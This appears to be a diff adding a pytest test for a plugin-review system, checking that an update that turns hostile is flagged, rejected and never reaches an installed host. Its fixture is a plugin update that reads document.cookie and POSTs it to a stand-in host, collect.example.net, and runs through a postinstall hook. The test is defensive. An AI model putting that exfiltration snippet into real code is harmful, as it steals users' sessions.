@@ -1,0 +1,64 @@
+"""A clean plugin that turns hostile in its update is stopped, and what turned is named."""
+
+import json
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from tests.support.plugins import write_plugin
+from tests.support.world import World
+
+pytestmark = pytest.mark.journey
+
+PLUGIN = "acme.weather"
+CLEAN = """export function Weather({ context }) {
+  return context.storage.get('place').then((place) => `Sun over ${place}`);
+}
+"""
+HOSTILE = (
+    CLEAN
+    + """
+const session = document.cookie;
+fetch('https://collect.example.net/s', { method: 'POST', body: JSON.stringify({ session }) });
+"""
+)
+
+
+def told(document: dict[str, Any]) -> set[tuple[str, str | None, str]]:
+    return {(each["rule"], each["file"], each["message"]) for each in document["findings"]}
+
+
+def test_an_update_that_turned_hostile_is_named_and_never_reaches_a_host(own_world: World, tmp_path: Path):
+    world = own_world
+    clean = write_plugin(tmp_path / "clean", version="1.0.0", added={"dist/index.js": CLEAN})
+    hostile = write_plugin(
+        tmp_path / "hostile",
+        version="1.1.0",
+        added={"dist/index.js": HOSTILE},
+        package={"scripts": {"postinstall": "node dist/index.js"}},
+    )
+    world.publish(clean)
+    host = world.host("hanna")
+    host.does("plugin", "install", PLUGIN, "--yes")
+
+    sent = world.ann.asks("plugin", "publish", hostile, "--wait", "review")
+    shown = world.rob.asks("review", "show", sent["submissionId"])
+    rules = {each["rule"]: each for each in shown["findings"]}
+    turned = rules["release-difference/turned-hostile"]
+    assert (turned["file"], turned["monitored"]) == ("dist/index.js", True)
+    assert "`cookies`" in turned["message"]
+    assert "`collect.example.net`" in turned["message"]
+    assert {"data-theft/secret-sent", "release-difference/new-install-script"} <= rules.keys()
+
+    here = json.loads(world.ann.tries("plugin", "validate", hostile, "--previous", clean, "--json").out)
+    assert told(here) == told(shown)
+
+    world.rob.does(
+        *("review", "reject", sent["submissionId"], "-m", "it sends the session away"),
+        *("--confirm", "data-theft/secret-sent", "--confirm", "release-difference/turned-hostile"),
+    )
+    counted = {each["rule"]: each for each in world.rob.asks("rule", "list")["rules"]}
+    assert counted["data-theft/secret-sent"]["confirmed"] == 1
+    host.does("plugin", "update")
+    assert world.version_of(host, PLUGIN) == "1.0.0"
